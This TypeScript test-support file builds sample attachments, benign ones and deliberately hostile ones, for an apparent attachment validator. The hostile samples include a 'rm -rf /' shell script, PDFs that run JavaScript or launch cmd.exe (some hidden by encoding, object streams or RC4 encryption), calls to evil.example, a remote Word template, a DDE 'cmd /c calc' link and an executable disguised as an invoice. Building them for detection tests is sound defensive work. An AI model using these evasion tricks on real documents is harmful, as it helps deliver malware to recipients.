/** Small real files of each kind an attachment may be (and some it may not), built here: no binary fixture is committed. */
import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import { zipParts } from "../../data/test/support/xlsx-writer.ts";

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>`;
const RELS = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>`;

export const pdf = (text = "情况说明") =>
  Buffer.from(
    `%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n% ${text}\ntrailer <</Root 1 0 R>>\n%%EOF\n`,
    "utf8",
  );

/** a 1×1 PNG */
export const png = () => Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");

/** the start of a JPEG (JFIF) */
export const jpeg = () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);

export const gif = () => Buffer.concat([Buffer.from("GIF89a", "latin1"), Buffer.from([1, 0, 1, 0, 0, 0, 0, 0x3b])]);

export const webp = () => Buffer.concat([Buffer.from("RIFF", "latin1"), Buffer.from([26, 0, 0, 0]), Buffer.from("WEBPVP8 ", "latin1"), Buffer.alloc(14)]);

export function bmp(): Buffer {
  const b = Buffer.alloc(58);
  b.write("BM", 0, "latin1");
  b.writeUInt32LE(58, 2);
  b.writeUInt32LE(54, 10);
  b.writeUInt32LE(40, 14);
  b.writeInt32LE(1, 18);
  b.writeInt32LE(1, 22);
  return b;
}

export const tiff = () => Buffer.from([0x49, 0x49, 0x2a, 0x00, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00]);

export const heic = () => Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from("ftypheic\0\0\0\0mif1heic", "latin1")]);

export const docx = () =>
  zipParts([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: RELS },
    { name: "word/document.xml", data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>` },
  ]);

export const xlsx = () =>
  zipParts([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "_rels/.rels", data: RELS },
    { name: "xl/workbook.xml", data: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>` },
    { name: "xl/worksheets/sheet1.xml", data: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>` },
  ]);

export const pptx = () =>
  zipParts([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "ppt/presentation.xml", data: "<p:presentation/>" },
  ]);

/** a Word document with a VBA project (.docm) */
export const docm = () =>
  zipParts([
    { name: "[Content_Types].xml", data: CONTENT_TYPES },
    { name: "word/document.xml", data: "<w:document/>" },
    { name: "word/vbaProject.bin", data: "VBA" },
  ]);

/** an OFD (GB/T 33190) document: a ZIP with OFD.xml at its root */
export const ofd = () =>
  zipParts([
    { name: "OFD.xml", data: `<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"/>` },
    { name: "Doc_0/Document.xml", data: "<ofd:Document/>" },
  ]);

/**
 * an OFD carrying what acts without being asked for: a program attached to the document (its Attachments, opened by a
 * double click in the reader), or a URI action on an event (DO: the document opened; PO: a page; CLICK: a link clicked)
 */
export const ofdWith = (carries: "attachment" | "invoice" | "disguised" | "DO" | "PO" | "CLICK") =>
  zipParts([
    {
      name: "OFD.xml",
      data: `<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>`,
    },
    {
      name: "Doc_0/Document.xml",
      data:
        carries === "attachment" || carries === "invoice" || carries === "disguised"
          ? `<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Attachments>Attachs/Attachments.xml</ofd:Attachments></ofd:Document>`
          : `<ofd:Document xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Actions><ofd:Action Event="${carries}"><ofd:URI URI="file://10.0.0.66/share/x.png"/></ofd:Action></ofd:Actions></ofd:Document>`,
    },
    // an e-invoice's data (original_invoice.xml), and a program said to be one (Format xml, its file run.exe)
    ...(carries === "invoice"
      ? [
          {
            name: "Doc_0/Attachs/Attachments.xml",
            data: `<ofd:Attachments xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Attachment ID="1" Name="original_invoice" Format="xml" Visible="false"><ofd:FileLoc>original_invoice.xml</ofd:FileLoc></ofd:Attachment></ofd:Attachments>`,
          },
          { name: "Doc_0/Attachs/original_invoice.xml", data: "<EInvoice><TaxSupervisionInfo/></EInvoice>" },
        ]
      : []),
    ...(carries === "disguised"
      ? [
          {
            name: "Doc_0/Attachs/Attachments.xml",
            data: `<ofd:Attachments xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Attachment ID="1" Name="original_invoice" Format="xml"><ofd:FileLoc>run.exe</ofd:FileLoc></ofd:Attachment></ofd:Attachments>`,
          },
          { name: "Doc_0/Attachs/run.exe", data: () => [exe()] },
        ]
      : []),
    ...(carries === "attachment"
      ? [
          {
            name: "Doc_0/Attachs/Attachments.xml",
            data: `<ofd:Attachments xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Attachment ID="1" Name="整改材料" Format="exe"><ofd:FileLoc>run.exe</ofd:FileLoc></ofd:Attachment></ofd:Attachments>`,
          },
          { name: "Doc_0/Attachs/run.exe", data: () => [exe()] },
        ]
      : []),
  ]);

/** a plain ZIP, whatever is in it */
export const plainZip = () =>
  zipParts([
    { name: "说明.txt", data: "见附件" },
    { name: "word/readme.txt", data: "not a document" },
  ]);

/**
 * An OLE compound file (the legacy .doc/.xls/.ppt container) whose directory holds these entries: a 512-byte header,
 * then 128-byte directory entries (UTF-16LE name, NUL-terminated, its length in bytes at 0x40), and `text` after them
 * (a string as UTF-16LE, bytes as they are).
 */
export function ole(names: readonly string[], text: string | Buffer = ""): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  const entries = ["Root Entry", ...names].map((name, i) => {
    const entry = Buffer.alloc(128);
    const encoded = Buffer.from(`${name}\0`, "utf16le");
    encoded.copy(entry);
    entry.writeUInt16LE(encoded.length, 0x40);
    entry[0x42] = i === 0 ? 5 : 2;
    return entry;
  });
  return Buffer.concat([header, ...entries, typeof text === "string" ? Buffer.from(text, "utf16le") : text]);
}

/** the start of a Windows program */
export function exe(): Buffer {
  const b = Buffer.alloc(256);
  b.write("MZ", 0, "latin1");
  b.writeUInt32LE(0x80, 0x3c);
  b.write("PE\0\0", 0x80, "latin1");
  return b;
}

export const elf = () => Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
export const machO = () => Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]);
export const shellScript = () => Buffer.from("#!/bin/sh\nrm -rf /\n", "utf8");
export const html = () => Buffer.from("\uFEFF  <!DOCTYPE html><html><script>alert(1)</script></html>", "utf8");
export const svg = () =>
  Buffer.from(`<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`, "utf8");
export const rar = () => Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]);
export const text = () => Buffer.from("这是一段普通文字，不是可以附加的文件类型。", "utf8");

/** A PDF whose catalog (object 1) has these entries, and these objects after it. */
export const pdfWith = (catalog: string, ...objects: string[]) =>
  Buffer.from(
    `%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R ${catalog}>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n${objects.map((o, i) => `${i + 3} 0 obj ${o} endobj\n`).join("")}trailer <</Root 1 0 R>>\n%%EOF\n`,
    "latin1",
  );

/** JavaScript run on opening (the name spelled with a #xx escape, as PDF allows) */
export const pdfJavaScript = () => pdfWith("/OpenAction 3 0 R", "<</Type /Action /S /J#61vaScript /JS (app.alert\\(1\\))>>");
/** a launch action starting a program */
export const pdfLaunch = () => pdfWith("/OpenAction <</S /Launch /F (cmd.exe)>>");
/** a file embedded in the PDF (its attachments' name tree) */
export const pdfEmbeddedFile = () =>
  pdfWith(
    "/Names <</EmbeddedFiles <</Names [(run.exe) 3 0 R]>>>>",
    "<</Type /Filespec /F (run.exe) /EF <</F 4 0 R>>>>",
    "<</Type /EmbeddedFile /Length 2>> stream\nMZ\nendstream",
  );

/**
 * the JavaScript action kept in a compressed object stream, as PDF 1.5 writers do; or (`inString`) object 3 starting
 * inside a string of object 5, where its offset says
 */
export function pdfJavaScriptInObjectStream(inString = false): Buffer {
  const action = "<</S /JavaScript /JS (app.launchURL\\('http://evil.example'\\))>>";
  const objects = inString ? `5 0 3 8 <</T (a ${action})>>` : `3 0 ${action}`;
  const data = deflateSync(Buffer.from(objects, "latin1"));
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 3 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n`, "latin1"),
    Buffer.from(`4 0 obj <</Type /ObjStm /N ${inString ? 2 : 1} /First ${inString ? 8 : 4} /Filter /FlateDecode /Length ${data.length}>> stream\n`, "latin1"),
    data,
    Buffer.from("\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n", "latin1"),
  ]);
}

/** JavaScript between two strings spelling "stream" and "endstream" (once taken for a stream's data, and skipped) */
export const pdfJavaScriptBetweenStrings = () => pdfWith("/OpenAction 3 0 R", "<</T (stream\n) /S /JavaScript /JS (app.alert\\(1\\)) /U (endstream)>>");

/** JavaScript in an object a stream's /Length covers (a reader finds it by the cross-reference table) */
export function pdfJavaScriptUnderLength(early: boolean): Buffer {
  const hidden = `AAAA\n${early ? "endstream endobj\n" : ""}5 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj\n`;
  return pdfWith("/OpenAction 5 0 R", `<</Length ${hidden.length}>> stream\n${hidden}endstream`);
}

/** JavaScript in an object written inside a string (a reader finds it by the cross-reference table) */
export const pdfJavaScriptInString = () => pdfWith("/OpenAction 4 0 R", "<</Title (x 4 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj)>>");

/** an XFA form (its scripts in an XML stream not read) */
export const pdfXfa = () =>
  pdfWith("/AcroForm <</Fields [] /XFA 3 0 R>>", "<</Length 52>> stream\n<xdp:xdp><script>xfa.host.messageBox(1)</script>\nendstream");

/** an object stream encoded otherwise than deflated alone: a filter chain, or a predictor (its JavaScript then not readable) */
export function pdfObjectStreamEncoded(how: "hex" | "predictor"): Buffer {
  const objects = Buffer.from("3 0 <</S /JavaScript /JS (app.alert\\(1\\))>>", "latin1");
  // the PNG "Up" predictor: rows of 4 bytes, each after its filter type (2) as its difference from the row above
  const rows = Buffer.alloc(Math.ceil(objects.length / 4) * 5);
  for (let i = 0; i < objects.length; i++) {
    rows[Math.floor(i / 4) * 5] = 2;
    rows[Math.floor(i / 4) * 5 + 1 + (i % 4)] = ((objects[i] as number) - (i >= 4 ? (objects[i - 4] as number) : 0)) & 0xff;
  }
  const [bytes, dictionary] =
    how === "hex"
      ? [Buffer.from(`${deflateSync(objects).toString("hex")}>`, "latin1"), "/Filter [/ASCIIHexDecode /FlateDecode]"]
      : [deflateSync(rows), "/Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 4>>"];
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 3 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n`, "latin1"),
    Buffer.from(`4 0 obj <</Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${bytes.length}>> stream\n`, "latin1"),
    bytes,
    Buffer.from("\nendstream endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n", "latin1"),
  ]);
}

/**
 * A real PDF's names in strings and streams: a link to MDN's JavaScript pages, a title of a path with "/Launch" in
 * it, a page whose text reads "/JavaScript", and a comment; and its dictionaries in an object stream, deflated.
 */
export function pdfMentioningJavaScript(): Buffer {
  const page = "BT /F1 12 Tf 72 720 Td (\\(/JavaScript /Launch\\) stream) Tj ET";
  const link = "<</Type /Annot /Subtype /Link /A <</S /URI /URI (https://developer.mozilla.org/en-US/docs/Web/JavaScript)>>>> ";
  const info = "<</Title (D:/Launch/会议.doc) /Subject <2F4A617661536372697074>>>";
  const head = `5 0 6 ${Buffer.byteLength(link)} `;
  const data = deflateSync(Buffer.from(head + link + info, "utf8"));
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n% /JavaScript in a comment\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n`,
      "latin1",
    ),
    Buffer.from(
      `3 0 obj <</Type /Page /Parent 2 0 R /Annots [5 0 R] /Contents 4 0 R>> endobj\n4 0 obj <</Length ${page.length}>> stream\n${page}\nendstream endobj\n`,
      "latin1",
    ),
    Buffer.from(`7 0 obj <</Type /ObjStm /N 2 /First ${head.length} /Filter /FlateDecode /Length ${data.length}>> stream\n`, "latin1"),
    data,
    Buffer.from("\nendstream endobj\ntrailer <</Root 1 0 R /Info 6 0 R>>\n%%EOF\n", "latin1"),
  ]);
}

/** RC4, the cipher of a PDF encrypted at 40 bits (revision 2), which readers open without asking when its user password is empty */
function rc4(key: Buffer, data: Buffer): Buffer {
  const s = [...Array(256).keys()];
  for (let i = 0, j = 0; i < 256; i++) {
    j = (j + (s[i] as number) + (key[i % key.length] as number)) & 255;
    [s[i], s[j]] = [s[j] as number, s[i] as number];
  }
  const out = Buffer.alloc(data.length);
  for (let n = 0, i = 0, j = 0; n < data.length; n++) {
    i = (i + 1) & 255;
    j = (j + (s[i] as number)) & 255;
    [s[i], s[j]] = [s[j] as number, s[i] as number];
    out[n] = (data[n] as number) ^ (s[((s[i] as number) + (s[j] as number)) & 255] as number);
  }
  return out;
}

/**
 * A PDF encrypted with an empty user password (it opens without asking; only the owner's is set, as a PDF whose
 * printing or copying is restricted is): its catalog runs object 3 on opening, a JavaScript action kept in an object
 * stream (`objectStream`, encrypted as a reader decrypts it, RC4 at 40 bits), or (not) written out in the file, where
 * only its strings are encrypted and its names read as they are. `spelled` writes the trailer's /Encrypt key.
 */
export function pdfEncrypted(objectStream: boolean, spelled = "/Encrypt"): Buffer {
  const md5 = (...parts: Buffer[]) => createHash("md5").update(Buffer.concat(parts)).digest();
  const padding = Buffer.from("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a", "hex");
  const owner = Buffer.alloc(32, 1);
  const permissions = -3904; // no printing, no copying
  const id = Buffer.alloc(16, 7);
  const p = Buffer.alloc(4);
  p.writeInt32LE(permissions);
  const key = md5(padding, owner, p, id).subarray(0, 5);
  const user = rc4(key, padding);
  const objectKey = (n: number) => md5(key, Buffer.from([n & 255, (n >> 8) & 255, n >> 16, 0, 0])).subarray(0, 10);
  const hex = (b: Buffer) => `<${b.toString("hex")}>`;
  const action = "<</S /JavaScript /JS ";
  const script = Buffer.from("app.launchURL('http://evil.example')", "latin1");
  const head = Buffer.from(
    `%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 3 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n`,
    "latin1",
  );
  const tail = Buffer.from(
    `9 0 obj <</Filter /Standard /V 1 /R 2 /O ${hex(owner)} /U ${hex(user)} /P ${permissions}>> endobj\ntrailer <</Root 1 0 R ${spelled} 9 0 R /ID [${hex(id)} ${hex(id)}]>>\n%%EOF\n`,
    "latin1",
  );
  if (!objectStream) return Buffer.concat([head, Buffer.from(`3 0 obj ${action}${hex(rc4(objectKey(3), script))}>> endobj\n`, "latin1"), tail]);
  // in an object stream a string is not encrypted of its own: the stream is, as a whole
  const data = rc4(objectKey(4), deflateSync(Buffer.from(`3 0 ${action}(${script.toString("latin1")})>>`, "latin1")));
  return Buffer.concat([
    head,
    Buffer.from(`4 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length}>> stream\n`, "latin1"),
    data,
    Buffer.from("\nendstream endobj\n", "latin1"),
    tail,
  ]);
}

/** an image whose bytes happen to spell "/JS " and "/Launch": data, not a dictionary */
export function pdfImageSpellingJs(): Buffer {
  const pixels = Buffer.from("\u0000\u0001/JS \u0002/Launch\u0003/EmbeddedFile ", "latin1");
  return pdfWith("", `<</Type /XObject /Subtype /Image /Width 1 /Height 1 /Length ${pixels.length}>> stream\n${pixels.toString("latin1")}\nendstream`);
}

const OOXML_TYPES = (overrides = "") =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides}</Types>`;
const WORD_DOCUMENT = {
  name: "word/document.xml",
  data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>`,
};
const rels = (...relationships: string[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join("")}</Relationships>`;

/** a .docx loading its template from the network when opened (remote template injection) */
export const docxRemoteTemplate = () =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    WORD_DOCUMENT,
    {
      name: "word/_rels/settings.xml.rels",
      data: rels(
        `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`,
      ),
    },
  ]);

/** a .docx with one relationship in this part (a template in word/_rels/settings.xml.rels, as Word writes it) */
export const docxWithRelationship = (part: string, relationship: string) =>
  zipParts([{ name: "[Content_Types].xml", data: OOXML_TYPES() }, WORD_DOCUMENT, { name: part, data: rels(relationship) }]);

/** a .docx made from a template at this target (a 公文模板 on the PC: file:///C:\…\公文模板.dotx) */
export const docxTemplate = (target: string) =>
  docxWithRelationship(
    "word/_rels/settings.xml.rels",
    `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/>`,
  );

/** a .docx with a table linked from the workbook at this target (粘贴链接) */
export const docxLinkedObject = (target: string) =>
  docxWithRelationship(
    "word/_rels/document.xml.rels",
    `<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="${target}" TargetMode="External"/>`,
  );

/** a .docx whose body is this (fields in it) */
export const docxBody = (body: string) =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    {
      name: "word/document.xml",
      data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`,
    },
  ]);

/** an .xlsx with a DDE link (a formula =cmd|'/c calc'!A0 is kept as one) */
export const xlsxDdeLink = () =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    { name: "xl/workbook.xml", data: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>` },
    {
      name: "xl/externalLinks/externalLink1.xml",
      data: `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>`,
    },
  ]);

/**
 * A file package's "\u0001Ole10Native" stream as Word and WPS write one for a file inserted as an object: its size,
 * flags 2, label, path, 0x00030000, the temporary path's length and path, the data's length and data, then the
 * temporary path, label and path in UTF-16 after their lengths in characters.
 */
export function ole10Native(name: string, data: Buffer): Buffer {
  const path = `C:\\Users\\admin\\Desktop\\${name}`;
  const temp = `C:\\Users\\admin\\AppData\\Local\\Temp\\${name}`;
  const ansi = (s: string) => Buffer.from(`${s}\0`, "latin1");
  const u32 = (n: number) => {
    const b = Buffer.alloc(4);
    b.writeUInt32LE(n);
    return b;
  };
  const unicode = (s: string) => Buffer.concat([u32(s.length), Buffer.from(s, "utf16le")]);
  const body = Buffer.concat([
    Buffer.from([2, 0]),
    ansi(name),
    ansi(path),
    Buffer.from([0, 0, 3, 0]),
    u32(temp.length + 1),
    ansi(temp),
    u32(data.length),
    data,
    unicode(temp),
    unicode(name),
    unicode(path),
  ]);
  return Buffer.concat([u32(body.length), body]);
}

/** an OLE object packaging this file (Word's oleObject1.bin of 插入 → 对象 → 由文件创建) */
export const olePackage = (name: string, data: Buffer) =>
  ole(["\u0001Ole10Native", "\u0001CompObj"], Buffer.concat([Buffer.alloc(64), ole10Native(name, data)]));

/** a .docx with a link (an external relationship that loads nothing) and a chart's embedded workbook: a real document */
export async function docxWithLinkAndChart(): Promise<Buffer> {
  const chart = await xlsx();
  return zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    WORD_DOCUMENT,
    {
      name: "word/_rels/document.xml.rels",
      data: rels(
        `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="http://www.huantai.gov.cn/" TargetMode="External"/>`,
      ),
    },
    { name: "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data: () => [chart] },
  ]);
}

/** a .docx embedding this file as an OLE object */
export const docxEmbedding = (object: Buffer) =>
  zipParts([{ name: "[Content_Types].xml", data: OOXML_TYPES() }, WORD_DOCUMENT, { name: "word/embeddings/oleObject1.bin", data: () => [object] }]);

/** a .docx whose VBA project is under another name, declared by its content type */
export const docxRenamedVba = () =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES(`<Override PartName="/word/foo.bin" ContentType="application/vnd.ms-office.vbaProject"/>`) },
    WORD_DOCUMENT,
    { name: "word/foo.bin", data: "VBA" },
  ]);

/** an .xlsx with an Excel 4.0 macro sheet */
export const xlsxMacroSheet = () =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    { name: "xl/workbook.xml", data: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>` },
    { name: "xl/macrosheets/sheet1.xml", data: `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>` },
  ]);

/** an .xlsx with an ActiveX control */
export const xlsxActiveX = () =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    { name: "xl/workbook.xml", data: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>` },
    { name: "xl/activeX/activeX1.xml", data: "<ax:ocx/>" },
  ]);

/** a BIFF8 BOUNDSHEET record: a sheet of this type (0 worksheet, 1 Excel 4.0 macro sheet) and name */
export function boundSheet(type: number, name: string): Buffer {
  const record = Buffer.alloc(12 + name.length);
  record.writeUInt16LE(0x85, 0);
  record.writeUInt16LE(8 + name.length, 2);
  record[9] = type;
  record[10] = name.length;
  record.write(name, 12, "latin1");
  return record;
}

/** a legacy .xls whose workbook stream holds these sheets (the records after the directory) */
export const xlsWithSheets = (...sheets: Buffer[]) => Buffer.concat([ole(["Workbook"]), ...sheets]);

const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/**
 * a .docx showing one picture (a:blip): linked (r:link, "链接到文件", Word fetches it from the target each time it draws
 * it) or embedded (r:embed, its bytes in word/media); a hyperlink too (clicked, like a link on a web page)
 */
export const docxPicture = (how: "link" | "embed", target: string, hyperlink = "http://www.huantai.gov.cn/") =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    {
      name: "word/document.xml",
      data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${REL}"><w:body><w:p><w:hyperlink r:id="rId2"><w:r><w:t>见网站</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:${how}="rId1"/></a:graphicData></a:graphic></w:drawing></w:r></w:p></w:body></w:document>`,
    },
    {
      name: "word/_rels/document.xml.rels",
      data: rels(
        `<Relationship Id="rId1" Type="${REL}/image" Target="${target}"${how === "link" ? ` TargetMode="External"` : ""}/>`,
        `<Relationship Id="rId2" Type="${REL}/hyperlink" Target="${hyperlink}" TargetMode="External"/>`,
      ),
    },
    ...(how === "embed" ? [{ name: `word/${target}`, data: () => [png()] }] : []),
  ]);

/** an .xlsx whose cell A1 is taken from a workbook at this target (='\\host\share\[book.xlsx]Sheet1'!A1) */
export const xlsxExternalLink = (target: string) =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    {
      name: "xl/workbook.xml",
      data: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences></workbook>`,
    },
    {
      name: "xl/_rels/workbook.xml.rels",
      data: rels(
        `<Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/>`,
        `<Relationship Id="rId2" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/>`,
      ),
    },
    {
      name: "xl/worksheets/sheet1.xml",
      data: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>[1]Sheet1!A1</f><v>3</v></c></row></sheetData></worksheet>`,
    },
    {
      name: "xl/externalLinks/externalLink1.xml",
      data: `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${REL}"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>`,
    },
    {
      name: "xl/externalLinks/_rels/externalLink1.xml.rels",
      data: rels(`<Relationship Id="rId1" Type="${REL}/externalLinkPath" Target="${target}" TargetMode="External"/>`),
    },
  ]);

/** a .pptx whose slide links this relationship (video, audio, Microsoft's media) to a file at this target */
export const pptxLinkedMedia = (type: string, target: string) =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    { name: "ppt/presentation.xml", data: `<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>` },
    { name: "ppt/slides/slide1.xml", data: `<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>` },
    { name: "ppt/slides/_rels/slide1.xml.rels", data: rels(`<Relationship Id="rId2" Type="${type}" Target="${target}" TargetMode="External"/>`) },
  ]);

/** a Word field of this instruction, as Word writes one: w:instrText runs between w:fldChar marks */
export const wordField = (instruction: string, result = "") =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>${result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** A PDF whose catalog has these entries, with one page (object 3, these entries) and these objects after it (4…). */
export const pdfWithPage = (catalog: string, page: string, ...objects: string[]) =>
  pdfWith(catalog, `<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page}>>`, ...objects);

/**
 * a .docx as Word or WPS makes one of a web page or a 微信公众号 article pasted into it: the picture an INCLUDEPICTURE
 * field to its address (with `switches`: \* MERGEFORMATINET, \d), the picture itself kept as the field's result
 * (r:embed, its bytes in word/media)
 */
export const docxPastedWebPicture = (url: string, switches = "\\* MERGEFORMATINET") =>
  zipParts([
    { name: "[Content_Types].xml", data: OOXML_TYPES() },
    {
      name: "word/document.xml",
      data: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="${REL}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "${url}" ${switches} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed="rId1"/></a:graphicData></a:graphic></w:drawing></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`,
    },
    { name: "word/_rels/document.xml.rels", data: rels(`<Relationship Id="rId1" Type="${REL}/image" Target="media/image1.png"/>`) },
    { name: "word/media/image1.png", data: () => [png()] },
  ]);
